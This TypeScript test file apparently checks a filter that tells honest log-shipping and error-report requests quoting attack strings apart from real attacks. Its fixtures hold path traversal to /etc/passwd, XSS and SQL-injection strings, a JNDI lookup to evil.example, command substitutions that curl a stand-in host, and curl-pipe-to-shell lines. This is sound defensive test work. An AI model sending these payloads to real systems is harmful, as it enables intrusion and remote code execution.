import { type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const LINE = '10.0.0.1 "GET /../../../../etc/passwd?q=<script>alert(1)</script> HTTP/1.1" 404'
const QUERY = "10.0.0.1 GET /?id=1' UNION SELECT a,b FROM users-- 404"
const LOOKUP = '$' + '{jndi:ldap://evil.example/x}'

function reported(path: string, body: Readonly<Record<string, unknown>>): ReturnType<typeof sent> {
  return sent(body, path)
}

function envelope(event: unknown): ReturnType<typeof posted> {
  const lines = [{ event_id: 'a', sent_at: '2026-01-01T00:00:00Z' }, { type: 'event' }, event]
  const body = lines.map(line => JSON.stringify(line)).join('\n')
  return posted('application/x-sentry-envelope', body, '/api/7/envelope/')
}

/** What servers hand over of requests that attacked them, and what stays an attack beside it. */
const KINDS: HonestKinds = {
  'lines of logs at the addresses of collectors': {
    honest: [
      sent([{ logs: [{ timestamp: 1, message: LINE }] }], '/log/v1'),
      sent([{ ddsource: 'nginx', message: QUERY }], '/v1/input/abc'),
      sent({ message: LINE, event: { original: QUERY } }, '/logs-nginx/_doc'),
      posted('application/x-ndjson', `${JSON.stringify({ _raw: LINE })}\n`, '/cribl/_bulk'),
      posted('application/stream+json', `${JSON.stringify({ log: { msg: LINE } })}\n`, '/insert/jsonline'),
      sent([{ log: LINE }], '/api/default/nginx/_json'),
      sent({ lines: [{ line: LINE, app: 'nginx' }] }, '/logs/ingest?hostname=a'),
      sent([{ time: '2026-01-01', data: { message: LINE } }], '/1/batch/nginx'),
      sent([{ _time: '2026-01-01', message: QUERY }], '/v1/datasets/nginx/ingest'),
      posted('application/vnd.serilog.clef', `${JSON.stringify({ '@mt': LINE })}\n`, '/ingest/clef'),
      posted('application/json', '/ingest/clef'),
    ],
    attacks: [
      sent({ file: '../../../../etc/passwd' }, '/logs-nginx/_doc'),
      sent([{ time: QUERY }], '/1/batch/nginx'),
      sent([{ message: LOOKUP }], '/v1/datasets/nginx/ingest'),
      sent({ message: LINE }, '/api/messages'),
      // What stands behind a script is the choice of whoever asks.
      ...[
        '/vuln.php/_doc',
        '/cgi-bin/vuln.cgi/log/v1',

        '/vuln.phar/_doc',
        '/a/b.jsp/_bulk',
        '/api/show.php/a/b/_json',
      ].map(path => sent({ message: QUERY }, path)),
      sent({ message: QUERY }, '/users/1/events/5'),
      sent({ message: QUERY }, '/v1/input'),
      posted('application/json', JSON.stringify({ path: '/../../etc/passwd' }), '/ingest/clef'),
    ],
  },
  'lines of logs without fields': {
    honest: [
      posted('text/plain', `${LINE}\n${QUERY}`, '/services/collector/raw'),
      posted('text/plain', LINE, '/receiver/v1/http/ZaVnC4dhaV1hGJh=='),
      posted(
        'text/plain',
        `nginx,host=a message="${LINE.replaceAll('"', '\\"')}" 17\n`,
        '/api/v2/write?org=a',
      ),
    ],
    attacks: [
      posted('text/plain', LINE, '/items'),
      sent({ file: '../../../../etc/passwd' }, '/api/v2/write'),
      posted('text/plain', LOOKUP, '/services/collector/raw'),
    ],
  },
  'reports of errors that quote the request': {
    honest: [
      envelope({ request: { url: `https://shop.example/?q=${QUERY}` } }),
      envelope({ exception: { values: [{ type: 'Error', value: QUERY }] } }),
      reported('/api/7/store/', {
        request: { query_string: `q=${QUERY}`, data: { a: '../../../../etc/passwd' } },
      }),
      reported('/api/1/item/', { data: { request: { url: 'http://x/?q=$(curl http://evil.example/x)' } } }),
      reported('/api/v3/projects/1/notices', { context: { url: "http://x/?q=' OR 1=1--" } }),
    ],
    attacks: [
      envelope({ request: { url: LOOKUP } }),
      envelope({ user: { username: "x' OR 1=1--" } }),
      reported('/api/7/items/', { request: { url: '../../../../etc/passwd' } }),
      reported('/api/7/store/', { request: '<script>alert(1)</script>', id: '$(id)' }),
      reported('/api/7/store/', { request: { url: 'https://x/?q=<script>alert(1)</script>' } }),
    ],
  },
  'a pipeline that is checked, and a file of a project named by its path (GitLab)': {
    honest: [
      '/api/v4/ci/lint',
      '/api/v4/projects/1/ci/lint',
      '/api/v4/projects/a%2Fb/ci/lint',
      '/api/v4/projects/a%2Fb/repository/files/ci%2Eyml',
    ].map(path =>
      sent(
        { content: 'a:\n  script:\n    - curl -fsSL https://x.example/i.sh | bash -s -- -b /usr\n' },
        path,
      ),
    ),
    attacks: [
      sent({ content: 'x; curl https://x.example/i.sh | sh' }, '/api/v4/projects/a%2Fb/issues'),
      sent({ content: 'curl -fsSL https://x.example/i.sh | bash -s -- -b /usr' }, '/api/v4/lint'),
      sent({ ref: '$(curl https://x.example | sh)' }, '/api/v4/ci/lint'),
    ],
  },
}

testKinds(KINDS)
